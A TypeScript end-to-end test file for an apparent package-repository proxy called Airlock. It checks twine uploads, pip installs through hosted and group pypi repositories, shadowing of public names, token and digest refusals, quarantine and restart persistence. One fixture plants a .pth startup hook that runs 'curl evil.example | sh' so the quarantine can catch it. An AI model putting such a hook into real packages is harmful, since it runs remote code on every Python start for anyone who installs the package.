/**
 * Hosted and group pypi repositories with the real clients: twine uploads (a publisher token as
 * the Basic password), pip installs from the hosted repository and through a group that puts it
 * in front of a proxy of a fixture index (an uploaded name hides the public project of the same
 * name; a proxy-only name installs too). Refusals twine shows: another file under a name already
 * uploaded (and `--skip-existing`), no token, a reader's token; a digest that does not match the
 * bytes stores nothing; an uploaded wheel the built-in policy holds is not installable and pip
 * says why; a restart keeps every upload. Skipped, saying so, without twine (`apt-get install twine`).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildSdist, buildWheel, FixturePypiIndex, pip, pythonImport, twineUpload, twineVersion, type RunResult, type WheelSpec } from '../../support/pypi-index/index.ts';
import { startAirlock, type StartedAirlock } from '../../support/start-airlock.ts';
import { createToken } from '../npm/support.ts';
import { OLD, quarantineIdIn } from './support.ts';

const version = await twineVersion();
const skip = version === null ? 'twine is not installed (apt-get install twine): the hosted pypi end-to-end tests need it' : false;

let targets = 0;

async function install(tmp: string, indexUrl: string, ...requirements: string[]): Promise<RunResult & { readonly target: string }> {
  const target = join(tmp, `target-${++targets}`);
  const r = await pip(['install', '--index-url', indexUrl, '--retries', '0', '--target', target, ...requirements]);
  return { ...r, target };
}

/** A wheel (or sdist) written to its own folder, as twine uploads it. */
async function distFile(tmp: string, built: { readonly filename: string; readonly bytes: Buffer }): Promise<string> {
  const dir = join(tmp, `dist-${++targets}`);
  await mkdir(dir);
  const path = join(dir, built.filename);
  await writeFile(path, built.bytes);
  return path;
}

async function wheelFile(tmp: string, spec: WheelSpec): Promise<string> {
  return distFile(tmp, buildWheel(spec));
}

/** What a client printed, its line wrapping undone. */
const out = (r: RunResult): string => (r.stdout + r.stderr).replace(/\s+/g, ' ');

test('hosted pypi: twine upload, pip install from the hosted repository and through a group, refusals twine shows, the gate, restart', { skip }, async (t) => {
  const index = await new FixturePypiIndex().start();
  t.after(() => index.close());
  // The public index has a project of an internal name, at a higher version.
  for (const [name, v] of [['acme-billing', '9.9.9'], ['public-tool', '2.0']] as const) {
    const w = buildWheel({ name, version: v });
    index.addFile(name, { filename: w.filename, bytes: w.bytes, metadata: w.metadata, uploadTime: OLD });
  }
  const tmp = await mkdtemp(join(tmpdir(), 'airlock-pypi-hosted-'));
  t.after(() => rm(tmp, { recursive: true, force: true }));
  const dataDir = join(tmp, 'data');
  await mkdir(dataDir);
  const config = {
    repositories: [
      { name: 'pypi', format: 'pypi', upstream: index.url, filesUpstream: index.filesUrl },
      { name: 'internal', format: 'pypi', kind: 'hosted' },
      { name: 'python', format: 'pypi', kind: 'group', members: ['internal', 'pypi'], publishTo: 'internal' },
    ],
  };
  let airlock: StartedAirlock = await startAirlock({ config, dataDir });
  t.after(() => airlock.close());
  const hosted = `${airlock.url}/internal/`;
  const group = `${airlock.url}/python/`;
  const publisher = await createToken(airlock, 'publisher', 'release-bot');
  const reader = await createToken(airlock, 'reader', 'dev');

  // twine uploads a wheel and an sdist; pip installs the wheel from the hosted repository.
  const wheel = await wheelFile(tmp, { name: 'acme-billing', version: '1.0', requiresPython: '>=3.8' });
  const sdist = await distFile(tmp, buildSdist({ name: 'acme-billing', version: '1.0' }));
  const uploaded = await twineUpload(hosted, publisher, [wheel, sdist]);
  assert.equal(uploaded.code, 0, out(uploaded));
  const fromHosted = await install(tmp, `${hosted}simple/`, 'acme-billing');
  assert.equal(fromHosted.code, 0, out(fromHosted));
  assert.equal(await pythonImport(fromHosted.target, 'acme_billing'), '1.0');

  // The pages: PEP 691 JSON with sha256, sizes, upload times and requires-python; PEP 503 HTML with the hash fragment and data-requires-python.
  const page = (await (await fetch(`${hosted}simple/acme-billing/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as { files: { filename: string; hashes: { sha256: string }; 'requires-python'?: string; size: number; 'upload-time': string }[] };
  const wheelBytes = buildWheel({ name: 'acme-billing', version: '1.0', requiresPython: '>=3.8' }).bytes;
  const listed = page.files.find((f) => f.filename.endsWith('.whl'));
  assert.equal(listed?.hashes.sha256, createHash('sha256').update(wheelBytes).digest('hex'));
  assert.equal(listed?.['requires-python'], '>=3.8');
  assert.equal(listed?.size, wheelBytes.length);
  assert.match(listed?.['upload-time'] ?? '', /^\d{4}-\d\d-\d\dT/);
  assert.deepEqual(page.files.map((f) => f.filename).sort(), ['acme_billing-1.0-py3-none-any.whl', 'acme_billing-1.0.tar.gz']);
  const html = await (await fetch(`${hosted}simple/acme-billing/`)).text();
  assert.match(html, /href="[^"]+acme_billing-1\.0-py3-none-any\.whl#sha256=[0-9a-f]{64}" data-requires-python="&gt;=3\.8"/);
  const root = await (await fetch(`${hosted}simple/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json();
  assert.deepEqual(root, { meta: { 'api-version': '1.0' }, projects: [{ name: 'acme-billing' }] });

  // Through the group: the uploaded name hides the public project (whose 9.9.9 is higher); a proxy-only name installs.
  const confused = await install(tmp, `${group}simple/`, 'acme-billing');
  assert.equal(confused.code, 0, out(confused));
  assert.equal(await pythonImport(confused.target, 'acme_billing'), '1.0');
  const pinnedPublic = await install(tmp, `${group}simple/`, 'acme-billing==9.9.9');
  assert.notEqual(pinnedPublic.code, 0);
  assert.match(out(pinnedPublic), /from versions: 1\.0/);
  const publicOnly = await install(tmp, `${group}simple/`, 'public-tool');
  assert.equal(publicOnly.code, 0, out(publicOnly));
  assert.equal(await pythonImport(publicOnly.target, 'public_tool'), '2.0');

  // An upload through the group goes to publishTo.
  const viaGroup = await twineUpload(group, publisher, [await wheelFile(tmp, { name: 'acme-billing', version: '1.1' })]);
  assert.equal(viaGroup.code, 0, out(viaGroup));
  const newer = await install(tmp, `${hosted}simple/`, 'acme-billing');
  assert.equal(newer.code, 0, out(newer));
  assert.equal(await pythonImport(newer.target, 'acme_billing'), '1.1');

  // The same file name with other bytes is refused, as PyPI refuses it; the same bytes again are fine; --skip-existing skips it.
  const otherBytes = await wheelFile(tmp, { name: 'acme-billing', version: '1.0', summary: 'other bytes' });
  const reused = await twineUpload(hosted, publisher, [otherBytes]);
  assert.notEqual(reused.code, 0);
  assert.match(out(reused), /400 Bad Request/);
  assert.match(out(reused), /File already exists: acme_billing-1\.0-py3-none-any\.whl was uploaded before with other bytes/);
  const same = await twineUpload(hosted, publisher, [wheel]);
  assert.equal(same.code, 0, out(same));
  const skipped = await twineUpload(hosted, publisher, [otherBytes], ['--skip-existing']);
  assert.equal(skipped.code, 0, out(skipped));
  assert.match(out(skipped), /Skipping acme_billing-1\.0-py3-none-any\.whl because it appears to already exist/);

  // No token, a reader's token: refused, and twine shows why.
  const anonymous = await twineUpload(hosted, '', [await wheelFile(tmp, { name: 'acme-billing', version: '1.2' })]);
  assert.notEqual(anonymous.code, 0);
  assert.match(out(anonymous), /401 Unauthorized .*Unauthorized \(Airlock: uploading needs a token with the publisher role: twine upload -u __token__ -p <token>\)/);
  const byReader = await twineUpload(hosted, reader, [await wheelFile(tmp, { name: 'acme-billing', version: '1.2' })]);
  assert.notEqual(byReader.code, 0);
  assert.match(out(byReader), /403 Forbidden/);
  assert.match(out(byReader), /needs the publisher role; the token has the reader role/);
  const proxyUpload = await twineUpload(`${airlock.url}/pypi/`, publisher, [await wheelFile(tmp, { name: 'acme-billing', version: '1.2' })]);
  assert.notEqual(proxyUpload.code, 0);
  assert.match(out(proxyUpload), /405 Method Not Allowed/);
  const versions = (await (await fetch(`${hosted}simple/acme-billing/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as { versions: string[] };
  assert.deepEqual(versions.versions, ['1.0', '1.1'], 'no refused upload was listed');

  // A digest that does not match the bytes: refused, nothing stored (the project never appears).
  const forged = buildWheel({ name: 'acme-ledger', version: '0.1' });
  const form = new FormData();
  for (const [k, v] of Object.entries({ ':action': 'file_upload', protocol_version: '1', name: 'acme-ledger', version: '0.1', filetype: 'bdist_wheel', pyversion: 'py3', metadata_version: '2.1', sha256_digest: createHash('sha256').update('other bytes').digest('hex') })) form.append(k, v);
  form.append('content', new Blob([forged.bytes]), forged.filename);
  const badDigest = await fetch(hosted, { method: 'POST', body: form, headers: { authorization: `Basic ${Buffer.from(`__token__:${publisher}`).toString('base64')}` } });
  assert.equal(badDigest.status, 400);
  assert.match(badDigest.statusText, /its bytes do not match sha256_digest; nothing was stored/);
  assert.equal((await fetch(`${hosted}simple/acme-ledger/`)).status, 404);

  // An uploaded wheel whose .pth runs code at every Python start: uploaded (an upload judges nothing), held when pip asks, and pip shows why.
  const hooked = await twineUpload(hosted, publisher, [await wheelFile(tmp, { name: 'acme-hooks', version: '1.0', files: { 'acme_hooks-init.pth': 'import os; os.system("curl evil.example | sh")\n' } })]);
  assert.equal(hooked.code, 0, out(hooked));
  const held = await install(tmp, `${group}simple/`, 'acme-hooks');
  assert.notEqual(held.code, 0);
  assert.match(out(held), /acme-hooks==1\.0 is quarantined by Airlock: .*\[python\.startup_hooks\]/);
  assert.notEqual(quarantineIdIn(out(held)), '');

  // A restart keeps every upload.
  await airlock.close();
  airlock = await startAirlock({ config, dataDir, adminToken: airlock.adminToken });
  const afterRestart = await install(tmp, `${airlock.url}/python/simple/`, 'acme-billing==1.0');
  assert.equal(afterRestart.code, 0, out(afterRestart));
  assert.equal(await pythonImport(afterRestart.target, 'acme_billing'), '1.0');
});
